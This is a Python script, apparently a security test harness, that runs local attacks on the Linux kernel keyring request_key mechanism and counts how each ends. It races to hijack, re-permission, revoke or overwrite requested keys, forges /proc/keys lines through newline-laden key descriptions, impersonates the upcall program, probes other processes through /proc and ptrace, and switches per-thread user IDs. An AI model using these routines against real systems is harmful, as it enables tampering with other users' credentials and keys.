# SPDX-License-Identifier: MIT
"""What a user can do with keys by himself, in a process of its own.

    hostile.py request DESCRIPTION CALLOUT     prints the errno
    hostile.py attack OPERATION DESCRIPTION ROUNDS
                                                prints how it ended, counted
    hostile.py answer DESCRIPTION              prints what can be done to a
                                                key that the kernel waits for
    hostile.py look PID...                     prints what can be seen of them
    hostile.py switch RUID EUID SUID OTHER DESCRIPTION ROUNDS
                                                the same, by root
"""

import collections
import ctypes
import errno
import os
import platform
import signal
import sys
import threading
import time

lib = ctypes.CDLL("libkeyutils.so.1", use_errno=True)
for function in ("request_key", "keyctl_search", "keyctl_read", "add_key",
                 "keyctl_describe", "keyctl_join_session_keyring"):
    getattr(lib, function).restype = ctypes.c_long
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
THREAD, PROCESS, SESSION, USER = -1, -2, -3, -4
# For possessor and owner.  With rights for all others it would be the upcall
# that has them, too, and takes the key back.
EVERYTHING = 0x3f3f0000
EVERYBODY = 0x3f3f3f3f
GENUINE = "1b3e0000"
held = None  # the keyring of detach()
imitated = set()  # requests that imitate() has made a line for


def request(description, callout="", ring=USER):
    if ring == USER:
        lib.keyctl_link(USER, PROCESS)
    else:
        lib.keyctl_link(ring, SESSION)
    key = lib.request_key(b"user", os.fsencode(description),
                          os.fsencode(callout), ring)
    return (key, 0) if key >= 0 else (-1, ctypes.get_errno())


def listed(ring=USER):
    keys = (ctypes.c_int32 * 1024)()
    size = lib.keyctl_read(ring, ctypes.byref(keys), ctypes.sizeof(keys))
    return keys[:max(0, size) // 4]


def describe(key):
    """uid, perm, description; or None."""
    text = ctypes.create_string_buffer(8192)
    if lib.keyctl_describe(key, text, len(text)) < 0:
        return None
    words = text.value.decode(errors="replace").split(";", 4)
    return int(words[1]), words[3], words[4]


def each(act):
    def attack():
        for key in listed():
            act(key)
    return attack


def detach():
    """Whoever asks reaches the key by one keyring; take that away, and the
    key with it, which is still within our own reach."""
    found = listed(held)
    if found:
        lib.keyctl_unlink(held, SESSION)
    for key in found:
        lib.keyctl_setperm(key, EVERYTHING)


def imitate():
    """A line of /proc/keys that names another process as the requester: a
    description may hold line breaks, and everybody may look at it.  One of
    each, or the attacker's own quota is full at once."""
    if len(imitated) > 20:
        lib.keyctl_clear(THREAD)
        imitated.clear()
    with open("/proc/keys") as keys:
        for line in keys:
            if ".request_ key:" in line and line[:8] not in imitated:
                imitated.add(line[:8])
                forged = line.rsplit("pid:", 1)[0] + "pid:1 ci:0"
                key = lib.add_key(b"user", b"x\n" + forged.strip().encode(),
                                  b"x", 1, THREAD)
                lib.keyctl_setperm(key, EVERYBODY)


ATTACKS = {
    "setperm": each(lambda key: lib.keyctl_setperm(key, EVERYTHING)),
    "setperm-none": each(lambda key: lib.keyctl_setperm(key, 0)),
    "unlink": each(lambda key: lib.keyctl_unlink(key, USER)),
    "clear": lambda: lib.keyctl_clear(USER),
    "timeout": each(lambda key: lib.keyctl_set_timeout(key, 100000000)),
    "timeout-1": each(lambda key: lib.keyctl_set_timeout(key, 1)),
    "invalidate": each(lib.keyctl_invalidate),
    "revoke": each(lib.keyctl_revoke),
    "chown": each(lambda key: lib.keyctl_chown(key, os.getuid(), -1)),
    "update": each(lambda key: lib.keyctl_update(key, b"evil", 4)),
    "detach": detach,
    "imitate": imitate,
}


def has_no_end(key):
    with open("/proc/keys") as keys:
        for line in keys:
            words = line.split()
            if words and words[0] == f"{key:08x}":
                return words[3] == "perm"
    return False


def verdict(description, ring):
    """Of one round: the errno's name, "genuine", or "won"."""
    key, error = request(description, ring=ring)
    if error:
        return errno.errorcode.get(error, str(error))
    # Who can do this has a token of his own making.
    if lib.keyctl_setperm(key, EVERYTHING) == 0:
        return "won"
    found = describe(key)
    if found is None:
        return "gone"
    payload = ctypes.create_string_buffer(32768)
    if lib.keyctl_read(key, payload, len(payload)) < 0:
        return "unreadable"
    if found[:2] != (0, GENUINE) or has_no_end(key):
        return "won"
    for change in (lib.keyctl_revoke,
                   lambda key: lib.keyctl_set_timeout(key, 9999),
                   lambda key: lib.keyctl_update(key, b"evil", 4)):
        if change(key) == 0:
            return "won"
    return "genuine"


def attack(operation, description, rounds):
    global held
    seen = collections.Counter()
    ring = USER
    if operation == "detach":
        lib.keyctl_join_session_keyring(None)
        ring = held = lib.add_key(b"keyring", b"held", None, 0, SESSION)
        lib.keyctl_setperm(held, EVERYTHING)
    attacker = os.fork()
    if attacker == 0:
        lib.keyctl_link(ring, PROCESS)
        while os.getppid() != 1:
            ATTACKS[operation]()
        os._exit(0)
    try:
        for _ in range(rounds * 20):
            if sum(seen.values()) >= rounds:
                break
            outcome = verdict(description, ring)
            lib.keyctl_clear(ring)
            if outcome == "EDQUOT":
                time.sleep(0.05)  # until the kernel has collected some
            else:
                seen[outcome] += 1
    finally:
        os.kill(attacker, signal.SIGKILL)
        os.waitpid(attacker, 0)
    return dict(seen)


def outcome(act, *arguments):
    """The name of its error, or "done"."""
    ctypes.set_errno(0)
    if act(*arguments) >= 0:
        return "done"
    error = ctypes.get_errno()
    return errno.errorcode.get(error, str(error))


def authorities():
    """The authorisation keys that one can see, and their keyrings."""
    keys, rings = [], []
    with open("/proc/keys") as lines:
        for line in lines:
            words = line.split()
            if ".request_ key:" in line:
                keys.append(int(words[0], 16))
            elif len(words) > 8 and words[8].startswith("_req."):
                rings.append((int(words[0], 16), words[8].rstrip(":")))
    return keys, rings


def answer(description):
    """In the place of the program that the kernel asks."""
    lib.keyctl_link(USER, PROCESS)
    key = next(key for key in listed()
               if describe(key) and describe(key)[2] == description)
    keys, rings = authorities()
    said = {
        "assume": outcome(lib.keyctl_assume_authority, key),
        "instantiate": outcome(lib.keyctl_instantiate, key, b"evil", 4, 0),
        "negate": outcome(lib.keyctl_negate, key, 60, 0),
        "reject": outcome(lib.keyctl_reject, key, 60, errno.EACCES, 0),
    }
    payload = ctypes.create_string_buffer(4096)
    for authority in keys:
        said["read the authority"] = outcome(
            lib.keyctl_read, authority, payload, len(payload))
        said["link the authority"] = outcome(
            lib.keyctl_link, authority, PROCESS)
    for ring, name in rings:
        said["link its keyring"] = outcome(lib.keyctl_link, ring, PROCESS)
        lib.keyctl_join_session_keyring(name.encode())
        said["join its keyring"] = ("done" if ring in listed(SESSION) or
                                    set(keys) & set(listed(SESSION))
                                    else "another")
        said["assume again"] = outcome(lib.keyctl_assume_authority, key)
    # Ends only when the key is there.
    said["add"] = outcome(lib.add_key, b"user", description.encode(),
                          b"evil", 4, USER)
    return said


def look(pids):
    seen = []
    for pid in pids:
        for name in "environ", "maps", "mem", "fd", "cwd":
            path = f"/proc/{pid}/{name}"
            try:
                if name == "fd":
                    os.listdir(path)
                elif name == "cwd":
                    os.readlink(path)
                else:
                    with open(path, "rb"):
                        pass
                seen.append(path)
            except PermissionError:
                pass
        if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
            seen.append(f"ptrace {pid}")
        try:
            os.kill(pid, 0)
            seen.append(f"kill {pid}")
        except PermissionError:
            pass
    return seen


def become(ruid, euid, suid):
    """Only this thread; setresuid(3) would take all others along."""
    number = {"x86_64": 117, "aarch64": 147}[platform.machine()]
    if ctypes.CDLL(None).syscall(number, ruid, euid, suid) != 0:
        raise OSError("setresuid")


def switch(ids, other, description, rounds):
    """A thread with these user IDs asks, while the rest of its process is
    other's, then root's, and so on."""
    seen = collections.Counter()

    def ask():
        become(*ids)
        for _ in range(rounds):
            key, error = request(description)
            seen[errno.errorcode.get(error, "genuine")] += 1
            lib.keyctl_clear(USER)

    thread = threading.Thread(target=ask)
    thread.start()
    while thread.is_alive():
        become(other, other, 0)
        time.sleep(0.0005)
        become(-1, 0, -1)
        become(0, 0, 0)
    return dict(seen)


def main():
    if sys.argv[1] == "switch":
        *ids, other, description, rounds = sys.argv[2:]
        print(switch([int(uid) for uid in ids], int(other), description,
                     int(rounds)))
    elif sys.argv[1] == "request":
        print(request(sys.argv[2], sys.argv[3])[1])
    elif sys.argv[1] == "answer":
        print(answer(sys.argv[2]))
    elif sys.argv[1] == "look":
        print(look([int(pid) for pid in sys.argv[2:]]))
    else:
        print(attack(sys.argv[2], sys.argv[3], int(sys.argv[4])))


if __name__ == "__main__":
    main()
